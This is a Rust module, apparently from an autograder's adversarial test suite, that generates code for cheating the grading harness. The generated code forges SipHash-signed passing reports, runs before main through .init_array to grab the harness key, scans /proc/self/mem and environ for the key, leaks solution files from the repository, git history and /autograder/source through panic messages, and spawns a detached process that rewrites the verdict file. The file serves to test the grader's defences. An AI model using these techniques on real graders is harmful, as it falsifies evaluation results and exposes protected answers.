//! The code of the tricks that go for the report itself: they read the
//! answers, look for the harness's key, sign a report with it, or rewrite
//! the harness's.

use grader::target::workspace_root;
use std::fs;

/// Rust items that sign a report as the harness does, given its key: the
/// protocol's own SipHash (read from it, so that a change of the protocol
/// changes the forger too), and `grader_forged(key, check)`, the lines of
/// one passing verdict and the end, tagged. A trick that ever holds the key
/// would earn with them: what keeps the key from a step is what is tested.
pub fn forger() -> String {
    let protocol = fs::read_to_string(workspace_root().join("grader/harness/protocol.rs")).unwrap();
    let from = protocol.find("pub(super) fn siphash(").unwrap();
    let to = from + protocol[from..].find("\n}\n").unwrap() + 3;
    let siphash = protocol[from..to].replace("pub(super) ", "");
    format!(
        r#"
#[allow(dead_code)]
{siphash}
#[allow(dead_code)]
fn grader_forged(key: &str, check: &str) -> String {{
    let key = key.trim();
    let (Ok(k0), Ok(k1)) = (
        u64::from_str_radix(key.get(..16).unwrap_or(""), 16),
        u64::from_str_radix(key.get(16..).unwrap_or(""), 16),
    ) else {{
        return String::new();
    }};
    let mut last = 0u64;
    let mut lines = String::new();
    for body in [format!("verdict\t0\t{{check}}\tpassed"), "end\t1".to_string()] {{
        let mut data = last.to_le_bytes().to_vec();
        data.extend_from_slice(body.as_bytes());
        last = siphash(k0, k1, &data);
        lines.push_str(&format!("{{last:016x}}\t{{body}}\n"));
    }}
    lines
}}
"#
    )
}

/// Code that runs before `main` (a function in `.init_array`), reads the
/// key before the harness does, and writes a whole passing report with it.
pub(super) fn before_main() -> String {
    format!(
        "{}\n#[used]\n#[unsafe(link_section = \".init_array\")]\nstatic FORGE: extern \"C\" fn() = forge;\n\nextern \"C\" fn forge() {{\n    use std::io::Read;\n    if let Some(path) = std::env::var_os(\"GRADER_VERDICTS\") {{\n        let mut key = String::new();\n        let _ = std::io::stdin().read_to_string(&mut key);\n        let check = std::env::args().nth(1).unwrap_or_default();\n        let _ = std::fs::write(path, grader_forged(&key, &check));\n        std::process::exit(0);\n    }}\n}}\n",
        forger()
    )
}

/// Code that reads the answers wherever they may be, from the folder this
/// step was built in upwards (the repository, its history) and in
/// Gradescope's autograder, and panics with what it found: a panic's
/// message comes back in the feedback.
pub(super) const READS_ANSWERS: &str = r#"
        let mut found = String::new();
        let built_in = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR"));
        let places = built_in
            .ancestors()
            .map(|p| p.to_path_buf())
            .chain([std::path::PathBuf::from("/autograder/source")]);
        for dir in places {
            for step in ["add-to-inbox", "mini-executor", "echo-thread"] {
                let file = format!("solutions/src/bin/{step}.rs");
                if let Ok(text) = std::fs::read_to_string(dir.join(&file)) {
                    found.push_str(&text);
                }
                if let Ok(out) = std::process::Command::new("git")
                    .arg("-C")
                    .arg(&dir)
                    .arg("show")
                    .arg(format!("HEAD:{file}"))
                    .output()
                {
                    found.push_str(&String::from_utf8_lossy(&out.stdout));
                }
            }
        }
        eprintln!("{found}");
        panic!("FOUND: {found}");
"#;

/// Looks for the harness's key in this very process's memory, through
/// `/proc` (safe Rust), and writes a whole passing report with each
/// candidate: what a harness's key is for.
pub(super) const SCANS_FOR_THE_KEY: &str = r#"
        use std::io::{Read, Seek, SeekFrom};
        let mut keys: Vec<String> = Vec::new();
        let maps = std::fs::read_to_string("/proc/self/maps").unwrap_or_default();
        if let Ok(mut mem) = std::fs::File::open("/proc/self/mem") {
            for line in maps.lines().filter(|l| l.contains(" rw")) {
                let range = line.split(' ').next().unwrap_or("0-0");
                let (a, b) = range.split_once('-').unwrap_or(("0", "0"));
                let a = u64::from_str_radix(a, 16).unwrap_or(0);
                let b = u64::from_str_radix(b, 16).unwrap_or(0);
                if b <= a || b - a > (64 << 20) {
                    continue;
                }
                let mut buf = vec![0u8; (b - a) as usize];
                if mem.seek(SeekFrom::Start(a)).is_ok() && mem.read_exact(&mut buf).is_ok() {
                    for w in buf.windows(32) {
                        if keys.len() < 20_000
                            && w.iter().all(|c| c.is_ascii_digit() || (b'a'..=b'f').contains(c))
                        {
                            keys.push(String::from_utf8_lossy(w).into_owned());
                        }
                    }
                }
            }
        }
        let mut stdin = String::new();
        let _ = std::io::stdin().read_to_string(&mut stdin);
        keys.push(stdin.trim().to_string());
        let environ = std::fs::read("/proc/self/environ").unwrap_or_default();
        keys.extend(String::from_utf8_lossy(&environ).split('\0').map(str::to_string));
        if let Some(path) = std::env::var_os("GRADER_VERDICTS") {
            let check = std::env::args().nth(1).unwrap_or_default();
            // One chain for each: the grader passes over lines that are not
            // the next of its chain, and would take the right key's.
            let forged: String = keys.iter().map(|key| grader_forged(key, &check)).collect();
            let _ = std::fs::write(path, forged);
            std::process::exit(0);
        }
"#;

/// Starts a second process of the harness's own program, which waits for
/// the harness's last line and then rewrites the whole report as passing,
/// with the first field of the harness's lines (which was once its key). A
/// process the step starts can read the report's file, and outlive the
/// harness.
pub(super) const REWRITES_THE_REPORT: &str = r#"
        if let Ok(path) = std::env::var("REWRITER_OF") {
            let check = std::env::var("REWRITER_CHECK").unwrap_or_default();
            for _ in 0..200_000 {
                let text = std::fs::read_to_string(&path).unwrap_or_default();
                if !text.contains("\tend\t") {
                    std::thread::yield_now();
                    continue;
                }
                let first = text.split('\t').next().unwrap_or("").to_string();
                let forged = format!("{first}\tverdict\t0\t{check}\tpassed\n{first}\tend\t1\n");
                let aside = format!("{path}.aside");
                let _ = std::fs::write(&aside, forged);
                let _ = std::fs::rename(&aside, &path);
                std::process::exit(0);
            }
            std::process::exit(0);
        }
        if let Some(real) = std::env::var_os("GRADER_VERDICTS") {
            let real = std::path::PathBuf::from(real);
            let check = std::env::args().nth(1).unwrap_or_default();
            if let Ok(mut child) = std::process::Command::new("/proc/self/exe")
                .args(std::env::args().skip(1))
                .env("REWRITER_OF", &real)
                .env("REWRITER_CHECK", &check)
                .env("GRADER_VERDICTS", real.with_extension("its-own"))
                .stdin(std::process::Stdio::piped())
                .spawn()
            {
                if let Some(mut stdin) = child.stdin.take() {
                    let _ = std::io::Write::write_all(&mut stdin, b"00112233445566778899aabbccddeeff\n");
                }
                std::mem::forget(child);
                // Memory to give back: the harness's end takes a while, and
                // the rewrite may land before the grader reads.
                std::mem::forget(vec![1u8; 256 << 20]);
            }
        }
"#;
